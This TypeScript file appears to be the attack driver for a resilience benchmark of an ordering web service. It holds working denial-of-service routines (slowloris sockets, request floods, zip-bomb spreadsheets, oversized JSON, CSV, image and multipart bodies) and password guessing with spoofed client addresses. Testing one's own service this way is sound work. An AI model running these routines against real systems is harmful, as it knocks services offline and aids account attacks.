// One attacker of bench/hostile.ts: `node bench/hostile-attack.ts KIND TARGET`. It goes on until it is killed.
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { zipSync } from 'fflate'
import sharp from 'sharp'
import type { Login } from './stage.ts'

export type Target = {
  url: string
  cook: Login
  clerk: Login
  consumer_id: string
  deal_id: string
  supplier_id: string
  product_item_id: string
}

let addresses = 0
/** Nobody's address twice. */
const someAddress = () => {
  addresses += 1
  return `198.${18 + ((addresses >> 16) & 1)}.${(addresses >> 8) & 255}.${addresses & 255}`
}

const headersOf = ({ cookie, csrf }: Login) => ({ cookie, 'x-csrf-token': csrf, 'x-forwarded-for': someAddress() })

/** So many at once, again and again. */
const again = async (at_once: number, work: (n: number) => Promise<unknown>) => {
  await Promise.all(
    Array.from({ length: at_once }, async (_, n) => {
      for (;;) await work(n).catch(() => sleep(100))
    }),
  )
}

const post = async (url: string, who: Login, body: string | FormData, type?: string) => {
  const headers = { ...headersOf(who), ...(type ? { 'content-type': type } : {}) }
  const answer = await fetch(url, { method: 'POST', headers, body })
  await answer.arrayBuffer()
}

const send = (url: string, who: Login, content: Uint8Array<ArrayBuffer> | string, name: string) => {
  const form = new FormData()
  form.append('file', new File([content], name))
  return post(url, who, form)
}

/** Sockets that are held open, each with a head and then a sign now and then. */
const hold = async (target: Target, many: number, head: (n: number) => string, sign: string) => {
  const { hostname, port } = new URL(target.url)
  const open = (n: number) => {
    const socket = connect(Number(port), hostname)
    socket.on('error', () => {})
    socket.on('close', () => setTimeout(() => open(n), 200))
    socket.resume()
    socket.write(head(n))
    if (sign) {
      const timer = setInterval(() => socket.write(sign), 1_000)
      socket.on('close', () => clearInterval(timer))
    }
  }
  for (let n = 0; n < many; n += 1) open(n)
  await sleep(1e9)
}

const request = (method: string, path: string, headers: Record<string, string>) =>
  `${method} ${path} HTTP/1.1\r\nHost: localhost\r\n${Object.entries(headers)
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('')}\r\n`

const sheet = (rows: string) => {
  const text = (part: string) => new TextEncoder().encode(part)
  const main = 'http://schemas.openxmlformats.org'
  return {
    '[Content_Types].xml': text(`<Types xmlns="${main}/package/2006/content-types"/>`),
    'xl/workbook.xml': text(
      `<workbook xmlns="${main}/spreadsheetml/2006/main" xmlns:r="${main}/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    ),
    'xl/_rels/workbook.xml.rels': text(
      `<Relationships xmlns="${main}/package/2006/relationships"><Relationship Id="rId1" Type="${main}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    ),
    'xl/worksheets/sheet1.xml': text(
      `<?xml version="1.0"?><worksheet xmlns="${main}/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`,
    ),
  }
}

const intake = ({ url, consumer_id, deal_id }: Target) =>
  `${url}/api/v2/consumers/${consumer_id}/deals/${deal_id}/orders/item_import`
const orders = ({ url, consumer_id, deal_id }: Target) =>
  `${url}/api/v2/consumers/${consumer_id}/deals/${deal_id}/orders`

export type Attack = keyof typeof attacks

export const attacks = {
  /** 500 bodies that drip in. */
  slow_bodies: target =>
    hold(
      target,
      500,
      () =>
        request('POST', new URL(orders(target)).pathname, {
          ...headersOf(target.cook),
          'content-type': 'application/json',
          'content-length': '100000',
          'idempotency-key': `slow-${Math.random()}`,
        }),
      ' ',
    ),
  /** 500 heads that never end. */
  slow_heads: target => hold(target, 500, () => 'GET /healthz HTTP/1.1\r\n', 'x: 1\r\n'),
  /** 1,000 live streams of one desk. */
  streams: target =>
    hold(
      target,
      1_000,
      () =>
        request('GET', `/api/v2/suppliers/${target.supplier_id}/receive_orders/live`, {
          ...headersOf(target.clerk),
          accept: 'text/event-stream',
        }),
      '',
    ),
  /** 100 people at once who guess passwords, each from an address of its own. */
  logins: async target => {
    const page = await fetch(`${target.url}/consumers/login`)
    const csrf = /name="csrf-token" content="([^"]+)"/.exec(await page.text())?.[1] ?? ''
    const cookie = page.headers
      .getSetCookie()
      .map(one => one.split(';')[0])
      .join('; ')
    const body = (n: number) =>
      JSON.stringify({ login_id: `nobody-${n}-${Math.random()}`, password: 'Wrong-Password1' })
    await again(100, n => post(`${target.url}/api/v2/consumers/session`, { cookie, csrf }, body(n), 'application/json'))
  },
  /** Pages and lists as fast as they come. */
  flood: target =>
    again(50, async n => {
      const list = `/api/v2/consumers/${target.consumer_id}/deals/${target.deal_id}/order_list_items?delivery_date=2099-01-01`
      const answer = await fetch(target.url + (n % 2 ? '/consumers/login' : list), { headers: headersOf(target.cook) })
      await answer.arrayBuffer()
    }),
  /** Bodies of a megabyte: digits, nesting, names, lists. */
  bodies: target => {
    const of = [
      `{"delivery_date":"2026-11-24","note":"${'1'.repeat(900_000)}","lines":[]}`,
      `${'{"a":'.repeat(150_000)}1${'}'.repeat(150_000)}`,
      `{${Array.from({ length: 40_000 }, (_, n) => `"name_of_${n}":${n}`).join(',')}}`,
      JSON.stringify({
        delivery_date: '2026-11-24',
        note: '',
        lines: Array.from({ length: 10_000 }, () => ({
          order_list_item_id: target.deal_id,
          unit_kind: 'piece',
          quantity: '1',
        })),
      }),
    ]
    return again(8, n => post(orders(target), target.cook, of[n % of.length] ?? '', 'application/json'))
  },
  /** Workbooks that unpack to hundreds of megabytes, or have a cell at the far end. */
  bombs: target => {
    const cell = '<c r="A1" t="inlineStr"><is><t>1</t></is></c>'
    const of = [
      zipSync({ ...sheet(''), 'xl/sharedStrings.xml': new Uint8Array(290_000_000) }, { level: 9 }),
      zipSync(sheet(`<row r="1">${cell.repeat(500_000)}</row>`), { level: 9 }),
      zipSync(sheet(`<row r="1048576">${cell.replace('A1', 'XFD1048576')}</row>`), { level: 9 }),
      zipSync(sheet(`<row r="1">${'<c '.repeat(1_000_000)}</row>`), { level: 9 }),
    ]
    return again(12, n => send(intake(target), target.cook, of[n % of.length] ?? new Uint8Array(), 'a.xlsx'))
  },
  /** Tables and memos as large as they may be. */
  tables: target => {
    const of = [
      `商品名,数量\n${`トマト,${'1'.repeat(1_900)}\n`.repeat(2_000)}`,
      `商品名,数量\n${'トマト,1\n'.repeat(250_000)}`,
      `${'('.repeat(2_900)}トマト`,
      ','.repeat(4_000_000),
    ]
    return again(12, n =>
      send(intake(target), target.cook, of[n % of.length] ?? '', n % of.length === 2 ? 'a.txt' : 'a.csv'),
    )
  },
  /** 20 photographs of 64 million pixels at once. */
  photographs: async target => {
    const photograph = await sharp({ create: { width: 8_000, height: 8_000, channels: 3, background: '#777' } })
      .jpeg({ quality: 90 })
      .toBuffer()
    const url = `${target.url}/api/v2/suppliers/${target.supplier_id}/product_items/${target.product_item_id}/images`
    await again(20, () => send(url, target.clerk, new Uint8Array(photograph), 'a.jpg'))
  },
  /** A body of 100,000 parts, and one that breaks off. */
  parts: target => {
    const part = '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n'
    const many = `${part.repeat(60_000)}--x--\r\n`
    const type = 'multipart/form-data; boundary=x'
    // The line is closed in the middle of it: no reason for him to pause.
    return again(8, n => post(intake(target), target.cook, n % 2 ? many : many.slice(0, -5), type).catch(() => {}))
  },
} satisfies Record<string, (target: Target) => Promise<unknown>>

const [kind, given] = process.argv.slice(2)
if (import.meta.main && kind && given && kind in attacks) {
  process.on('uncaughtException', () => {})
  await attacks[kind as Attack](JSON.parse(given) as Target)
}
